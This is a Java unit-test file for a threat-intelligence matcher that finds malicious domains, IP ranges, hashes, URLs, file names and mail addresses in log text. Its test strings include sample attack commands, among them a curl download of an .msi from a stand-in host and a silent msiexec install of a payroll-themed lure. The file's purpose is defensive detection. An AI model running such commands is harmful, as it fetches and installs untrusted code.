package org.atalaya.indicators;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import org.atalaya.model.Level;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProbeTest {
    private static final String HASH = "942865d0c76b71a075b21525bd32a1ceca830071e5c61123664bd332c7a8de2a";

    private static IndicatorSet set(Object... kindsAndValues) {
        IndicatorSetBuilder builder = new IndicatorSetBuilder();
        builder.begin("test");
        for (int i = 0; i < kindsAndValues.length; i += 2) {
            assertThat(builder.add(
                            (Kind) kindsAndValues[i], (String) kindsAndValues[i + 1], About.NOTHING, Optional.empty()))
                    .as("%s", kindsAndValues[i + 1])
                    .isTrue();
        }
        builder.keep();
        return builder.build(7);
    }

    private static List<String> hits(IndicatorSet set, String text) {
        Probe probe = new Probe(set);
        char[] chars = ("<" + text + ">").toCharArray();
        probe.text(chars, 1, chars.length - 1);
        List<String> hits = new ArrayList<>();
        for (int i = 0; i < probe.count(); i++) {
            hits.add(probe.indicator(i).value());
            assertThat(probe.start(i)).isLessThan(probe.end(i));
        }
        return hits;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "bad.example",
                "BAD.Example.",
                "deep.below.bad.example",
                "https://www.bad.example:8443/path?q=1",
                "cmd /c curl -o a.msi http://bad.example/a.msi",
                "user@bad.example",
                "type:  5 ::ffff:192.0.2.1;bad.example;",
                "\"bad.example\""
            })
    void aDomainIsFoundByItselfAndBelowItWhereverItStands(String text) {
        assertThat(hits(set(Kind.DOMAIN, "bad.example"), text)).containsExactly("bad.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"notbad.example", "bad.example.test", "bad-example", "example", "bad..example", "xbad.exampl"})
    void anotherDomainIsNotFound(String text) {
        assertThat(hits(set(Kind.DOMAIN, "bad.example"), text)).isEmpty();
    }

    @Test
    void ofDomainsAboveEachOtherTheNearestIsTold() {
        assertThat(hits(set(Kind.DOMAIN, "bad.example", Kind.DOMAIN, "c2.bad.example"), "a.c2.bad.example"))
                .containsExactly("c2.bad.example");
    }

    @ParameterizedTest
    @CsvSource({
        "203.0.113.7, 203.0.113.7, true",
        "203.0.113.0/24, 203.0.113.255, true",
        "203.0.113.0/24, 203.0.114.0, false",
        "203.0.113.77/31, 203.0.113.76, true",
        "0.0.0.0/0, 198.51.100.1, true",
        "203.0.113.7, 1203.0.113.7, false",
        "203.0.113.7, 203.0.113.7.9, false",
        "203.0.113.7, 203.0.113.07, false"
    })
    void networksHoldTheirAddresses(String indicator, String address, boolean holds) {
        assertThat(hits(set(Kind.IPV4, indicator), "to " + address + ":443").isEmpty())
                .isEqualTo(!holds);
    }

    @ParameterizedTest
    @CsvSource({
        "2001:db8::1, 2001:DB8:0:0:0:0:0:1, true",
        "2001:db8::1, [2001:db8::1]:443, true",
        "2001:db8::/32, 2001:db8:ffff::7, true",
        "2001:db8::/32, 2001:db9::7, false",
        "::ffff:198.51.100.7, ::ffff:198.51.100.7, true",
        "2001:db8::1, 12:34:56 2001:db8::1 9:8, true",
        "2001:db8::1, 2001:db8::12, false"
    })
    void addressesOfIpv6AreFoundInAnySpelling(String indicator, String text, boolean holds) {
        assertThat(hits(set(Kind.IPV6, indicator), text).isEmpty()).isEqualTo(!holds);
    }

    @Test
    void digestsAreFoundWhateverTheirCaseAndSurroundings() {
        IndicatorSet set = set(Kind.SHA256, HASH.toUpperCase(Locale.ROOT));
        assertThat(hits(set, "SHA1=0,SHA256=" + HASH + ",IMPHASH=0")).containsExactly(HASH);
        assertThat(hits(set, HASH + "0")).isEmpty();
        assertThat(hits(set, HASH.substring(1))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://bad.example/Get/a.msi",
                "https://BAD.example:443/Get/a.msi#top",
                "bad.example/Get/a.msi",
                "curl 'http://bad.example/Get/a.msi?x=1' -o a"
            })
    void aUrlIsFoundWithOrWithoutWhatProxiesLose(String text) {
        assertThat(hits(set(Kind.URL, "https://bad.example/Get/a.msi"), text)).containsExactly("bad.example/Get/a.msi");
    }

    @Test
    void thePathOfAUrlKeepsItsCase() {
        assertThat(hits(set(Kind.URL, "https://bad.example/Get/a.msi"), "http://bad.example/get/a.msi"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "C:\\Users\\ana\\Recibo Nomina (1).msi",
                "msiexec /i \"C:\\a b\\Recibo Nomina (1).msi\" /qn",
                "recibo nomina (1).MSI",
                "\\\\server\\share\\Recibo Nomina (1).msi"
            })
    void theNameOfAFileIsFoundAtTheEndOfPathsAndInCommandLines(String text) {
        assertThat(hits(set(Kind.FILE_NAME, "Recibo Nomina (1).msi"), text)).containsExactly("recibo nomina (1).msi");
    }

    @Test
    void aMailAddressIsFoundWithinAHeader() {
        IndicatorSet set = set(Kind.EMAIL, "pagos+imss@bad.example");
        assertThat(hits(set, "\"IMSS\" <Pagos+imss@BAD.example>")).containsExactly("pagos+imss@bad.example");
        assertThat(hits(set, "imss@bad.example")).isEmpty();
    }

    @Test
    void whatWasPutInIsFoundAndNothingElse() {
        Random random = new Random(11);
        IndicatorSetBuilder builder = new IndicatorSetBuilder();
        builder.begin("random");
        Set<String> in = new HashSet<>();
        for (int i = 0; i < 20_000; i++) {
            String name = Integer.toString(random.nextInt(200_000), 36) + ".test";
            if (in.add(name)) {
                builder.add(Kind.DOMAIN, name, About.NOTHING, Optional.empty());
            }
        }
        builder.keep();
        IndicatorSet set = builder.build(3);
        Probe probe = new Probe(set);
        for (int i = 0; i < 200_000; i++) {
            String name = Integer.toString(i, 36) + ".test";
            probe.clear();
            char[] text = name.toCharArray();
            probe.text(text, 0, text.length);
            assertThat(probe.count() > 0).as(name).isEqualTo(in.contains(name) && name.length() > 5);
        }
    }

    @Test
    void everythingThatIsSaidOfAnIndicatorComesBack() {
        IndicatorSetBuilder builder = new IndicatorSetBuilder();
        builder.begin("feed.json");
        About about = new About(
                "indicator--0f1c6b5e-0d61-5c1c-8c0b-8d5a6a5d9b11",
                "Señuelo",
                80,
                Optional.of(Instant.parse("2024-01-20T00:00:00Z")),
                Optional.of(Instant.parse("2024-07-20T00:00:00Z")));
        builder.add(Kind.DOMAIN, "bad.example", about, Optional.of(org.atalaya.model.Tlp.AMBER));
        builder.add(
                Kind.DOMAIN,
                "bad.example",
                new About("x-1", "", 20, Optional.empty(), Optional.empty()),
                Optional.empty());
        builder.keep();
        Probe probe = new Probe(builder.build(1));
        char[] text = "bad.example".toCharArray();
        probe.text(text, 0, text.length);
        assertThat(probe.count()).isEqualTo(2);
        assertThat(probe.indicator(1).about()).isEqualTo(about);
        assertThat(probe.indicator(1).origin().tlp()).contains(org.atalaya.model.Tlp.AMBER);
        assertThat(probe.indicator(0).about().id()).isEqualTo("x-1");
    }

    @Test
    void aFileThatIsForgottenLeavesNothing() {
        IndicatorSetBuilder builder = new IndicatorSetBuilder();
        builder.begin("good");
        builder.add(Kind.DOMAIN, "good.example", About.NOTHING, Optional.empty());
        builder.keep();
        builder.begin("broken");
        for (int i = 0; i < 100_000; i++) {
            builder.add(Kind.DOMAIN, "h" + i + ".bad.example", About.NOTHING, Optional.empty());
        }
        builder.forget();
        IndicatorSet set = builder.build(1);
        assertThat(set.size()).isEqualTo(1);
        assertThat(hits(set, "h5.bad.example")).isEmpty();
        assertThat(hits(set, "good.example")).hasSize(1);
    }

    @Test
    void addressesFadeWithinWeeksAndDigestsNever() {
        Instant published = Instant.parse("2024-01-20T00:00:00Z");
        About about = new About("", "", 80, Optional.of(published), Optional.empty());
        Origin origin = new Origin("f", "list", Optional.empty());
        Indicator address = new Indicator(Kind.IPV4, "203.0.113.7", about, origin);
        Indicator digest = new Indicator(Kind.MD5, "0".repeat(32), about, origin);
        Optional<Instant> later = Optional.of(published.plusSeconds(28 * 86_400));
        assertThat(address.score(later)).isEqualTo(20);
        assertThat(address.level(later)).isEqualTo(Level.LOW);
        assertThat(address.level(Optional.of(published))).isEqualTo(Level.HIGH);
        assertThat(digest.score(later)).isEqualTo(80);
        assertThat(digest.level(later)).isEqualTo(Level.HIGH);
        assertThat(address.score(Optional.empty())).isEqualTo(80);
    }

    @Test
    void afterItsValidityAnIndicatorIsStillToldButLow() {
        About about = new About(
                "",
                "",
                90,
                Optional.of(Instant.parse("2024-01-20T00:00:00Z")),
                Optional.of(Instant.parse("2024-02-20T00:00:00Z")));
        Indicator digest = new Indicator(Kind.MD5, "0".repeat(32), about, new Origin("f", "list", Optional.empty()));
        Optional<Instant> after = Optional.of(Instant.parse("2024-02-20T00:00:00Z"));
        assertThat(digest.at(after)).isEqualTo(Indicator.Validity.AFTER);
        assertThat(digest.level(after)).isEqualTo(Level.LOW);
        assertThat(digest.at(Optional.of(Instant.parse("2024-01-19T00:00:00Z"))))
                .isEqualTo(Indicator.Validity.BEFORE);
    }
}
